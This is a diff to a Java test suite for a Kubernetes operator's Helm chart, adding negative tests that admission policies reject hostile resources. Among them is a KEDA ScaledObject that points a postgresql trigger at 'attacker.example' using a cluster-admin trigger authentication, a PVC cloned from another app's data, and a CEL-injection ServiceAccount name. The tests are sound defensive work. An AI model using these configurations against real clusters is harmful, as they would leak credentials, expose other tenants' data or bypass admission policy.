@@ -297,7 +297,12 @@ class HelmChartTest {
                         + "spec: {maxUnavailable: 0, selector: {matchLabels: {app: web}}}\n",
                 "a ScaledObject of another workload", "apiVersion: keda.sh/v1alpha1\nkind: ScaledObject\nmetadata:\n"
                         + "  name: jobs-dns\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
-                        + "spec: {scaleTargetRef: {kind: Deployment, name: coredns}, triggers: [{type: cpu, metadata: {value: '50'}}]}\n");
+                        + "spec: {scaleTargetRef: {kind: Deployment, name: coredns}, triggers: [{type: cpu, metadata: {value: '50'}}]}\n",
+                "a ScaledObject sending a ClusterTriggerAuthentication's credentials", "apiVersion: keda.sh/v1alpha1\n"
+                        + "kind: ScaledObject\nmetadata:\n  name: jobs-exfil\n  namespace: vap-team\n" + labelledAndOwnedBy(owner)
+                        + "spec: {scaleTargetRef: {apiVersion: apps/v1, kind: StatefulSet, name: jobs}, triggers: [{type: postgresql,"
+                        + " metadata: {host: attacker.example, query: 'select 1', targetQueryValue: '1'},"
+                        + " authenticationRef: {kind: ClusterTriggerAuthentication, name: cloud-admin}}]}\n");
         for (var m : misshapen.entrySet()) {
             Path file = Files.createTempFile("misshapen", ".yaml");
             Files.writeString(file, m.getValue());
@@ -400,6 +405,24 @@ class HelmChartTest {
             Result r = dryRunAs(sa, withPod(defaultImage, p -> change.getValue().accept(p.getContainers().get(0))));
             assertThat(r.exit()).as(change.getKey()).isNotZero();
             assertThat(r.output()).as(change.getKey()).contains("runs executor containers only as it makes them");
+        }
+        // The StatefulSet's own shape: its cluster's executors' labels only, and no volume claims.
+        Map<String, java.util.function.Consumer<StatefulSet>> shapes = Map.of(
+                "pods labelled as another workload's", st -> {
+                    st.getSpec().getTemplate().getMetadata().getLabels().put("app", "web");
+                    st.getSpec().getSelector().getMatchLabels().put("app", "web");
+                },
+                "a volume claim template (another app's PVC cloned)", st -> st.getSpec().setVolumeClaimTemplates(List.of(
+                        new io.fabric8.kubernetes.api.model.PersistentVolumeClaimBuilder().withNewMetadata().withName("data").endMetadata()
+                                .withNewSpec().withNewDataSource().withKind("PersistentVolumeClaim").withName("their-data").endDataSource()
+                                .withAccessModes("ReadWriteOnce").withNewResources().addToRequests("storage",
+                                        new io.fabric8.kubernetes.api.model.Quantity("1Gi")).endResources().endSpec().build())));
+        for (var change : shapes.entrySet()) {
+            StatefulSet changed = Serialization.clone(defaultImage);
+            change.getValue().accept(changed);
+            Result r = dryRunAs(sa, changed);
+            assertThat(r.exit()).as(change.getKey()).isNotZero();
+            assertThat(r.output()).as(change.getKey()).contains("writes executor StatefulSets only as it makes them");
         }
         Path other = Files.createTempFile("admin", ".yaml");
         Files.writeString(other, Serialization.asYaml(withPod(defaultImage, p -> p.setServiceAccountName("victim"))));
@@ -595,6 +618,30 @@ class HelmChartTest {
             assertThat(image.exit()).as(value).isNotZero();
             assertThat(image.output()).contains("/" + value.substring(0, value.indexOf('=')).replace('.', '/'));
         }
+        // A tag or digest in the repository, a digest as the tag: a reference pods cannot pull
+        // (InvalidImageName), which an upgrade rolled every cluster onto.
+        for (String value : List.of("executorImage.repository=reg.example.com/x:1.0", "executorImage.repository=reg/x@sha256:ab",
+                "image.tag=sha256:" + "a".repeat(64), "flowableImage.tag=@sha256:ab", "executorImage.repository=reg/Upper")) {
+            Result image = template("--set", value);
+            assertThat(image.exit()).as(value).isNotZero();
+            assertThat(image.output()).contains("/" + value.substring(0, value.indexOf('=')).replace('.', '/'));
+        }
+        assertThat(template("--set", "executorImage.repository=registry.example.com:5000/drover/executor-x",
+                "--set", "executorImage.tag=2.0.1-rc_1").exit()).as("a registry with a port, a tag").isZero();
+        // The ServiceAccount's name goes into the admission policies' CEL: a quote in it rewrote them.
+        for (String name : List.of("x' || true || 'y", "Ops")) {
+            Result account = template("--set", "serviceAccount.create=false", "--set", "serviceAccount.name=" + name);
+            assertThat(account.exit()).as(name).isNotZero();
+            assertThat(account.output()).contains("/serviceAccount/name");
+        }
+        // podLabels may not replace the selector's labels (the Deployment would select none of its pods).
+        Result relabelled = template("--set", "podLabels.app\\.kubernetes\\.io/name=x");
+        assertThat(relabelled.exit()).isNotZero();
+        assertThat(relabelled.output()).contains("/podLabels");
+        // Every interval starts a pass over every cluster: 1ms (a typo of 1m) would be a pass without end.
+        Result often = template("--set", "figuresInterval=1ms");
+        assertThat(often.exit()).isNotZero();
+        assertThat(often.output()).contains("/figuresInterval");
         Result interval = template("--set", "figuresInterval=1m30s");
         assertThat(interval.exit()).as("a duration the operator's config cannot read").isNotZero();
         assertThat(interval.output()).contains("/figuresInterval");
